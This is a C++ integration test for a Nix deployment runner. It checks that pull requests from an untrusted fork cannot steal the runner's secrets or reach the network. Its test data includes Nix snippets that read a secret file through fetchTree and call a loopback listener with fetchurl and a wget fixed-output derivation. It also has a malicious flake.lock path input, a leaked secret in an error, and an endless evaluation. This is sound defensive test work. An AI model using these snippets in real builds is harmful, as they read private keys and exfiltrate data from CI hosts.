// Issue 19 from the attacker's side: pull requests from a fork whose Nix code tries to read a
// secret of the runner (a locked-path fetchTree, a `path` node in flake.lock), to send
// things out (eval-time fetchurl and a fixed-output derivation calling a listener on the
// runner's loopback), to build during evaluation (IFD), to quote a secret in an error, to
// evaluate forever and to build silently forever. The daemon runs with its real stages, the
// jail (untrusted.user through the nix-daemon the ctest fixture started) and a fake Gitea.
//
// What must hold: the listener receives nothing; the secrets are in no status, comment, run
// page, API answer, log file, database row or store path the runs created; each attack ends
// as a failed or refused host or run with a clear reason; a deploy pushed meanwhile starts at
// once. The same attack from a writer's same-repository pull request still runs (trusted).
#include <arpa/inet.h>
#include <atomic>
#include <filesystem>
#include <netinet/in.h>
#include <poll.h>
#include <random>
#include <set>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "runner/app/daemon.h"
#include "runner/core/log.h"
#include "runner/http/curl_client.h"
#include "runner/lab/lab.h"
#include "runner/nix/nix_cli.h"
#include "runner/os/files.h"
#include "runner/os/process.h"
#include "runner/store/runs.h"
#include "tests/integrations/test_helpers.h"
#include "tests/runner/app/daemon_helpers.h"
#include "tests/support/fake_forge.h"
#include "tests/support/run.h"
#include "tests/support/temp_git_repo.h"
#include "tests/support/wait.h"

namespace fs = std::filesystem;
using namespace runner;

namespace {

// A TCP listener on the runner's loopback that counts who got through.
class Listener {
 public:
  Listener() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(fd_ >= 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0);
    REQUIRE(::listen(fd_, 16) == 0);
    socklen_t len = sizeof a;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] {
      while (!stop_) {
        pollfd p{fd_, POLLIN, 0};
        if (::poll(&p, 1, 100) <= 0) continue;
        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c < 0) continue;
        ++connections_;
        const char* reply = "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok";
        (void)!::write(c, reply, std::strlen(reply));
        ::close(c);
      }
    });
  }
  ~Listener() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  int port() const { return port_; }
  int connections() const { return connections_; }

 private:
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> connections_{0};
  std::thread thread_;
};

std::string randomToken(const std::string& prefix) {
  std::random_device rd;
  std::string s = prefix;
  for (int i = 0; i < 24; ++i) s += "abcdefghijklmnopqrstuvwxyz0123456789"[rd() % 36];
  return s;
}

std::set<std::string> storeEntries() {
  std::set<std::string> out;
  for (const auto& e : fs::directory_iterator("/nix/store")) out.insert(e.path().string());
  return out;
}

// Every regular file below `root` (a store path, a directory) whose bytes contain `needle`.
std::vector<std::string> filesContaining(const fs::path& root, const std::string& needle) {
  std::vector<std::string> out;
  std::error_code ec;
  auto check = [&](const fs::path& p) {
    if (!fs::is_regular_file(fs::symlink_status(p, ec)) || fs::file_size(p, ec) > (64u << 20))
      return;
    auto text = os::readFileIfExists(p);
    if (text && text->find(needle) != std::string::npos) out.push_back(p.string());
  };
  if (fs::is_directory(fs::symlink_status(root, ec))) {
    for (auto it = fs::recursive_directory_iterator(root, ec);
         !ec && it != fs::recursive_directory_iterator(); it.increment(ec))
      check(it->path());
  } else {
    check(root);
  }
  return out;
}

// A signed Gitea pull_request delivery for head `head` (branch `headRef` of `headRepo`,
// cloned from `headClone`) against base `base` of alice/infra.
runner::HttpResponse postPullRequest(HttpClient& http, const std::string& baseUrl, int number,
                                     const std::string& head, const std::string& headRef,
                                     const std::string& headRepo, const std::string& headClone,
                                     const std::string& base, const std::string& baseClone) {
  auto j = tests::webhookJson("gitea/pull_request/go-scm-opened.json");
  j["action"] = "opened";
  j["number"] = number;
  auto& pr = j["pull_request"];
  pr["number"] = number;
  pr["head"]["sha"] = head;
  pr["head"]["ref"] = headRef;
  pr["head"]["label"] = headRef;
  pr["head"]["repo"]["full_name"] = headRepo;
  pr["head"]["repo"]["clone_url"] = headClone;
  pr["base"]["sha"] = base;
  pr["base"]["ref"] = "main";
  pr["base"]["repo"]["full_name"] = "alice/infra";
  pr["base"]["repo"]["clone_url"] = baseClone;
  j["repository"]["full_name"] = "alice/infra";
  j["repository"]["clone_url"] = baseClone;
  std::string body = j.dump();
  return tests::post(http, baseUrl + "/hooks/home", body,
                     {{"X-Gitea-Event", "pull_request"},
                      {"X-Gitea-Delivery", "pr-" + std::to_string(number) + "-" + head},
                      {"X-Gitea-Signature", tests::hexHmac(tests::kGiteaSecret, body)}});
}

std::optional<store::RunRecord> runOfPr(const Config& config, int64_t pr) {
  auto db = store::Database::open(app::databasePath(config), store::Durability::Normal);
  SystemClock clock;
  store::Runs runs(*db, clock, config.effectivePublicUrl());
  return runs.latestForPullRequest("home", "alice/infra", pr);
}

std::map<std::string, RunHostView> hostsOf(const Config& config, int64_t run) {
  auto db = store::Database::open(app::databasePath(config), store::Durability::Normal);
  SystemClock clock;
  store::Runs runs(*db, clock, config.effectivePublicUrl());
  std::map<std::string, RunHostView> out;
  for (auto& h : runs.hosts(run)) out[h.host] = h;
  return out;
}

}  // namespace

TEST_CASE("untrusted: a fork's attacks reach nothing of the runner, a writer's still run",
          "[integration][untrusted]") {
  REQUIRE(::geteuid() == 0);  // the jail switches accounts; CI runs the tests as root
  REQUIRE(os::lookupAccount("switchyard-untrusted"));  // scripts/install-deps.sh creates it

  os::PosixProcessRunner procs;
  os::TempDir tmp("sy-untrusted");  // 0700: nothing below is the jail's to read
  const std::string secret = randomToken("sekrit-");
  const fs::path secretFile = tmp.path() / "secret.txt";
  os::writeFileAtomic(secretFile, secret + "\n", fs::perms(0600));
  const fs::path secretDir = tmp.path() / "secret-dir";
  os::writeFileAtomic(secretDir / "id_ed25519", secret + "\n", fs::perms(0600));
  Listener listener;
  const std::string port = std::to_string(listener.port());
  const auto storeBefore = storeEntries();

  lab::LabHost web1;
  web1.name = "web1";
  auto lab = lab::Lab::create(procs, tmp.path() / "lab", {.hosts = {web1}});
  // The forge's repository (the mirror fetches it) and the fork, which is the lab's work tree.
  const fs::path upstream = tmp.path() / "upstream.git";
  tests::runOk("git", {"clone", "-q", "--bare", lab.infra.path().string(), upstream.string()});
  const std::string base = lab.infra.head();

  tests::FakeGitea gitea;
  Config config = tests::daemonConfig(tmp.path());
  os::writeFileAtomic(tmp.path() / "gitea.token", gitea.token());
  config.forges["home"].url = gitea.baseUrl();
  config.forges["home"].apiUrl = gitea.apiUrl();
  config.forges["home"].tokenFile = tmp.path() / "gitea.token";
  config.forges.erase("hub");
  config.untrusted.evalTimeout = std::chrono::seconds(20);
  config.untrusted.maxSilentTime = std::chrono::seconds(3);
  config.untrusted.buildTimeout = std::chrono::seconds(120);
  RepoConfig repo;
  repo.forge = "home";
  repo.name = "alice/infra";
  repo.url = upstream.string();
  repo.deployBranches = {"main"};
  repo.detection = PlanMode::Exact;
  repo.untrusted.build = UntrustedBuild::Always;  // non-network builds run; fetchers wait
  config.repos = {repo};
  // The lab locks its nixpkgs as git+file, which restrict-eval refuses to read even from the
  // store; the account and the network namespace are the boundary here (restrict-eval on its
  // own: the next test).
  config.untrusted.restrictEval = false;

  tests::RecordingLogger log;
  app::DaemonOptions o;
  o.log = &log;
  o.poll = std::chrono::milliseconds(100);
  app::Daemon daemon(config, o);
  daemon.start();
  INFO(log.all());
  REQUIRE(log.all().find("pull requests from forks run as 'switchyard-untrusted'") !=
          std::string::npos);
  http::CurlHttpClient http;

  auto attack = [&](const std::string& name, const std::string& extra) {
    lab::LabHost h;
    h.name = name;
    h.extraConfig = extra;
    return lab.infra.addHost(h);
  };
  // An eval-time download (pure evaluation allows it with a hash; it connects, then fails the
  // hash check).
  const std::string exfil =
      attack("exfil",
             "environment.etc.exfil.text = builtins.readFile (builtins.fetchurl { url = "
             "\"http://127.0.0.1:" +
                 port +
                 "/eval\"; sha256 = "
                 "\"0000000000000000000000000000000000000000000000000000\"; });");

  // --- the same attack from a writer's branch of the repository itself runs as before ------
  tests::runOk("git", {"-C", lab.infra.path().string(), "push", "-q", upstream.string(),
                       exfil + ":refs/heads/writer"});
  REQUIRE(postPullRequest(http, daemon.baseUrl(), 10, exfil, "writer", "alice/infra",
                          upstream.string(), base, upstream.string())
              .status == 202);
  REQUIRE(tests::waitUntil(
      [&] {
        auto r = runOfPr(config, 10);
        return r && isFinal(r->view.state);
      },
      std::chrono::seconds(300)));
  CHECK_FALSE(runOfPr(config, 10)->view.fromFork);
  const int trustedConnections = listener.connections();
  CHECK(trustedConnections >= 1);  // trusted code may reach the network: nothing changed

  // --- PR 1: one attack per host, from a fork ------------------------------------------
  attack("steal",
         "environment.etc.stolen.text = builtins.readFile (builtins.fetchTree { type = "
         "\"path\"; path = \"" +
             secretFile.string() + "\"; rev = \"" + std::string(40, '0') + "\"; });");
  attack("ifd", "environment.etc.ifd.text = import (pkgs.writeText \"ifd.nix\" \"\\\"x\\\"\");");
  attack("leak",
         "environment.etc.leak.text = throw \"leaked " + std::string(tests::kGiteaSecret) + "\";");
  attack("fod",
         "environment.systemPackages = [ (derivation { name = \"fod\"; system = "
         "\"x86_64-linux\"; builder = \"${pkgs.busybox}/bin/busybox\"; args = [ \"sh\" \"-c\" "
         "\"${pkgs.busybox}/bin/busybox wget -O $out http://127.0.0.1:" +
             port +
             "/fod\" ]; outputHashMode = \"flat\"; outputHashAlgo = \"sha256\"; outputHash = "
             "\"0000000000000000000000000000000000000000000000000000\"; }) ];");
  lab.infra.updateHost("web1", [](lab::LabHost& h) { h.revision = 2; });
  std::string head1 = lab.infra.updateHost("web1", [](lab::LabHost& h) {
    h.buildSeconds = 30;  // prints one line, then sleeps silently
  });

  REQUIRE(postPullRequest(http, daemon.baseUrl(), 1, head1, "main", "mallory/infra",
                          lab.infra.path().string(), base, upstream.string())
              .status == 202);
  REQUIRE(tests::waitUntil(
      [&] {
        auto r = runOfPr(config, 1);
        return r && isFinal(r->view.state);
      },
      std::chrono::seconds(300)));
  auto run1 = *runOfPr(config, 1);
  CHECK(run1.view.fromFork);
  auto hosts1 = hostsOf(config, run1.view.id);
  auto summary = [&](const std::string& h) {
    return hosts1.count(h) ? hosts1[h].summary + " | " + hosts1[h].logTail : "(absent)";
  };
  INFO("run 1: " << run1.view.error << "\n"
                 << [&] {
                      std::string s;
                      for (const auto& [n, h] : hosts1)
                        s += n + ": " + toString(h.state) + ": " + summary(n) + "\n";
                      return s;
                    }());
  CHECK(hosts1["steal"].state == HostState::Failed);
  CHECK(summary("steal").find("Permission denied") != std::string::npos);
  CHECK(hosts1["exfil"].state == HostState::Failed);
  CHECK(summary("exfil").find("unable to download 'http://127.0.0.1:" + port) != std::string::npos);
  CHECK(listener.connections() == trustedConnections);
  CHECK(hosts1["ifd"].state == HostState::Failed);
  CHECK(summary("ifd").find("allow-import-from-derivation") != std::string::npos);
  CHECK(hosts1["leak"].state == HostState::Failed);
  CHECK(summary("leak").find("leaked [redacted]") != std::string::npos);
  CHECK(hosts1["fod"].state == HostState::Waiting);
  CHECK(summary("fod").find("fixed-output") != std::string::npos);
  CHECK(hosts1["web1"].state == HostState::Failed);
  CHECK(summary("web1").find("seconds of silence") != std::string::npos);
  CHECK(listener.connections() == trustedConnections);

  // --- PR 2: a flake.lock node of type path refuses the run, naming it --------------------
  const std::string goodLock = os::readFile(lab.infra.path() / "flake.lock");
  {
    auto lockText = goodLock;
    auto lock = nlohmann::json::parse(lockText);
    lock["nodes"]["evil"] = {{"locked",
                              {{"type", "path"},
                               {"path", secretDir.string()},
                               {"narHash", "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}}},
                             {"original", {{"type", "path"}, {"path", secretDir.string()}}}};
    lock["nodes"]["root"]["inputs"]["evil"] = "evil";
    std::string head2 = lab.infra.commitFiles({{"flake.lock", lock.dump(2)}}, "a path input");
    REQUIRE(postPullRequest(http, daemon.baseUrl(), 2, head2, "main", "mallory/infra",
                            lab.infra.path().string(), base, upstream.string())
                .status == 202);
    REQUIRE(tests::waitUntil(
        [&] {
          auto r = runOfPr(config, 2);
          return r && isFinal(r->view.state);
        },
        std::chrono::seconds(120)));
    auto run2 = *runOfPr(config, 2);
    CHECK(run2.view.state == RunState::Failed);
    CHECK(run2.view.error.find("input 'evil' (path:" + secretDir.string() +
                               "): local paths are refused") != std::string::npos);
  }

  // --- PR 3: an endless evaluation; a deploy pushed meanwhile starts at once --------------
  {
    lab.infra.commitFiles({{"flake.lock", goodLock}}, "the lock again");
    std::string head3 = lab.infra.updateHost("web1", [](lab::LabHost& h) {
      h.buildSeconds = 0;
      h.extraConfig =
          "environment.etc.forever.text = toString (builtins.length (builtins.genericClosure { "
          "startSet = [ { key = 0; } ]; operator = x: builtins.seq (builtins.foldl' (a: b: a + "
          "b) 0 (builtins.genList (i: i) 20000)) [ { key = x.key + 1; } ]; }));";
    });
    REQUIRE(postPullRequest(http, daemon.baseUrl(), 3, head3, "main", "mallory/infra",
                            lab.infra.path().string(), base, upstream.string())
                .status == 202);
    bool running = tests::waitUntil(
        [&] {
          auto r = runOfPr(config, 3);
          return r && r->view.state != RunState::Queued;
        },
        std::chrono::seconds(60));
    auto r3 = runOfPr(config, 3);
    INFO("run 3: " << (r3 ? std::string(toString(r3->view.state)) + " " + r3->view.error
                          : std::string("none")));
    REQUIRE(running);
    REQUIRE(r3->view.state == RunState::Running);
    // A push to main while the fork's evaluation holds its slots: README only (no host).
    std::string pushSha;
    {
      fs::path clone = tmp.path() / "writer";
      tests::runOk("git", {"clone", "-q", upstream.string(), clone.string()});
      os::writeFileAtomic(clone / "README.md", "pushed while a fork evaluates\n");
      tests::runOk("git", {"-C", clone.string(), "add", "README.md"});
      tests::runOk("git", {"-C", clone.string(), "-c", "user.name=a", "-c", "user.email=a@b",
                           "commit", "-qm", "readme"});
      tests::runOk("git", {"-C", clone.string(), "push", "-q", "origin", "HEAD:main"});
      pushSha = tests::runOk("git", {"-C", clone.string(), "rev-parse", "HEAD"});
    }
    auto push = tests::webhookJson("gitea/push/go-scm-push.json");
    push["ref"] = "refs/heads/main";
    push["before"] = base;
    push["after"] = pushSha;
    push["repository"]["full_name"] = "alice/infra";
    push["repository"]["clone_url"] = upstream.string();
    std::string body = push.dump();
    auto r = tests::post(http, daemon.baseUrl() + "/hooks/home", body,
                         {{"X-Gitea-Event", "push"},
                          {"X-Gitea-Delivery", "push-during-fork"},
                          {"X-Gitea-Signature", tests::hexHmac(tests::kGiteaSecret, body)}});
    REQUIRE(r.status == 202);
    REQUIRE(tests::waitUntil(
        [&] {
          auto x = runOfPr(config, 3);
          return x && isFinal(x->view.state);
        },
        std::chrono::seconds(120)));
    auto run3 = *runOfPr(config, 3);
    auto db = store::Database::open(app::databasePath(config), store::Durability::Normal);
    SystemClock clock;
    store::Runs runs(*db, clock, config.effectivePublicUrl());
    auto deployRun = runs.latestForSha("home", "alice/infra", pushSha);
    REQUIRE(deployRun);
    REQUIRE(deployRun->view.startedAt);
    REQUIRE(run3.view.finishedAt);
    CHECK(*deployRun->view.startedAt < *run3.view.finishedAt);  // it did not wait
    auto h3 = hostsOf(config, run3.view.id);
    CHECK(h3["web1"].state == HostState::Failed);
    CHECK((h3["web1"].summary + run3.view.error).find("timed out") != std::string::npos);
  }

  CHECK(listener.connections() == trustedConnections);

  // --- the secrets are nowhere the runs wrote or show ------------------------------------
  std::vector<std::string> pages;
  for (int64_t pr : {1, 2, 3}) {
    auto r = runOfPr(config, pr);
    REQUIRE(r);
    const std::string id = std::to_string(r->view.id);
    for (const std::string& path : {"/runs/" + id, "/api/runs/" + id})
      pages.push_back(http.send({.method = "GET", .url = daemon.baseUrl() + path}).body);
    for (const auto& [h, _] : hostsOf(config, r->view.id))
      pages.push_back(
          http.send({.method = "GET", .url = daemon.baseUrl() + "/runs/" + id + "/logs/" + h})
              .body);
  }
  daemon.stop();
  for (const std::string& s : {secret, std::string(tests::kGiteaSecret)}) {
    INFO("looking for " << s);
    for (const auto& req : gitea.requests()) CHECK(req.body.find(s) == std::string::npos);
    for (const auto& page : pages) CHECK(page.find(s) == std::string::npos);
    CHECK(filesContaining(config.stateDir, s).empty());  // logs, database
  }
  // No store path the runs made holds the file's secret (the fork's own source does hold the
  // webhook secret it quoted: it wrote it there itself).
  for (const auto& p : storeEntries())
    if (!storeBefore.count(p)) CHECK(filesContaining(p, secret).empty());
}

TEST_CASE("untrusted: the jail's Nix refuses paths, URIs and builds during evaluation",
          "[integration][untrusted]") {
  REQUIRE(::geteuid() == 0);
  auto account = os::lookupAccount("switchyard-untrusted");
  REQUIRE(account);
  os::PosixProcessRunner procs;
  os::TempDir tmp("sy-jail");
  const std::string secret = randomToken("sekrit-");
  const fs::path secretFile = tmp.path() / "secret.txt";
  os::writeFileAtomic(secretFile, secret + "\n", fs::perms(0600));
  Listener listener;
  const std::string url = "http://127.0.0.1:" + std::to_string(listener.port()) + "/x";
  const std::string zeros = "0000000000000000000000000000000000000000000000000000";
  auto host = [](const std::string& name, const std::string& value) {
    return "    nixosConfigurations." + name + ".config.system.build.toplevel.drvPath = " + value +
           ";\n";
  };
  tests::TempGitRepo repo;
  const std::string sha = repo.commit(
      {{"flake.nix",
        "{\n  outputs = { self }: {\n" +
            host("steal", "builtins.readFile (builtins.fetchTree { type = \"path\"; path = \"" +
                              secretFile.string() + "\"; rev = \"" + std::string(40, '0') +
                              "\"; })") +
            host("hashed", "builtins.readFile (builtins.fetchurl { url = \"" + url +
                               "\"; sha256 = \"" + zeros + "\"; })") +
            host("plain", "builtins.readFile (builtins.fetchurl \"" + url + "\")") +
            host("ifd",
                 "import (derivation { name = \"ifd\"; system = \"x86_64-linux\"; "
                 "builder = \"/bin/sh\"; })") +
            host("fine", "\"ok\"") + "  };\n}\n"}},
      "attacks");

  nix::NixCli trusted(procs);
  const std::string ref = nix::sourceFlakeRef(trusted.fetchGitSource(repo.path(), sha));
  os::TempDir home("sy-jail-home");
  os::changeOwner(home.path(), account->uid, account->gid);
  fs::create_directories(home.path() / "tmp");
  os::changeOwner(home.path() / "tmp", account->uid, account->gid);
  nix::UntrustedJail jail;
  jail.account = {account->uid, account->gid, true};
  jail.home = home.path();
  nix::NixCli jailed(procs, nix::untrustedNixOptions({}, jail));
  auto ev = jailed.evalPerHost(ref, "n: c: c.config.system.build.toplevel.drvPath", std::nullopt);
  REQUIRE_FALSE(ev.flakeError);
  auto error = [&](const std::string& h) { return ev.hosts[h].error.value_or("(evaluated)"); };
  CHECK(error("steal").find(secret) == std::string::npos);
  // Nix 2.8's restrict-eval lets a locked path through fetchTree: the account stops it.
  CHECK(error("steal").find("Permission denied") != std::string::npos);
  CHECK(error("hashed").find("forbidden in restricted mode") != std::string::npos);
  CHECK(error("plain").find("forbidden in restricted mode") != std::string::npos);
  CHECK(error("ifd").find("allow-import-from-derivation") != std::string::npos);
  REQUIRE(ev.hosts["fine"].value);
  CHECK(*ev.hosts["fine"].value == "ok");
  CHECK(listener.connections() == 0);

  // The same flake evaluated as the runner reads and connects: the jail is what differs.
  auto open = trusted.evalPerHost(nix::gitFlakeRef(repo.path(), sha),
                                  "n: c: c.config.system.build.toplevel.drvPath", {{"hashed"}});
  CHECK(open.hosts["hashed"].error.value_or("").find("hash mismatch") != std::string::npos);
  CHECK(listener.connections() >= 1);
}
